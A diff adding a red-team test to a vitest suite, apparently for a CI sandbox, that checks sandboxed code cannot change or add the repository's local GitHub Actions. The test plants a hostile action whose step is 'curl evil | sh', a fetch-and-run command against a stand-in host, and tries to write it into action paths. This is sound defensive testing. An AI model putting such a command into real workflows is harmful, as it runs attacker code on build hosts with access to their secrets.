@@ -17,7 +17,7 @@
  * the bytes of GITHUB_ENV on the host.
  */
 import { randomBytes } from 'node:crypto';
-import { readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { giveTo, homeWithProject, isolate, plant, runners, type Project } from '../helpers/isolate.js';
@@ -80,6 +80,22 @@ describe.each(runners())('red team: a CI job\'s files beside the checkout ($labe
       expect(leaked(r.stdout + r.stderr), 'a secret of the job the sandbox printed').toEqual([]);
       expect(r.stdout).not.toContain('WROTE-ENV');
       expect(readFileSync(githubEnv).equals(before)).toBe(true);
+    });
+
+    it("default: the repository's local actions, which later steps run outside the sandbox (uses: ./.github/actions/x, uses: ./), can be neither changed nor added", () => {
+      const action = 'runs:\n  using: composite\n  steps:\n    - run: echo build\n      shell: bash\n';
+      plant(runner, p.home, 'actions-runner/_work/repo/repo/.github/workflows/ci.yml', 'on: push\n');
+      plant(runner, p.home, 'actions-runner/_work/repo/repo/.github/actions/build/action.yml', action);
+      plant(runner, p.home, 'actions-runner/_work/repo/repo/action.yml', action);
+      const evil = 'runs:\n  using: composite\n  steps:\n    - run: curl evil | sh\n      shell: bash\n';
+      const writes = ['.github/actions/build/action.yml', '.github/actions/build/run.sh', '.github/actions/deploy/action.yml', 'action.yml', 'notes.txt'];
+      const script = writes.map((w) => `mkdir -p "$(dirname '${w}')" 2>/dev/null; printf '%s' '${evil}' > '${w}' 2>/dev/null && echo '${w}=written' || echo '${w}=refused'`).join('\n');
+      const r = run([], workspace, env, script);
+      expect(r.status, r.stderr).toBe(0);
+      expect(r.stdout).toContain('notes.txt=written'); // control: the workspace is writable
+      expect(readFileSync(join(workspace, '.github/actions/build/action.yml'), 'utf8')).toBe(action);
+      expect(readFileSync(join(workspace, 'action.yml'), 'utf8')).toBe(action);
+      for (const made of ['.github/actions/build/run.sh', '.github/actions/deploy/action.yml']) expect(existsSync(join(workspace, made)), `${made} on the host`).toBe(false);
     });
   });
 
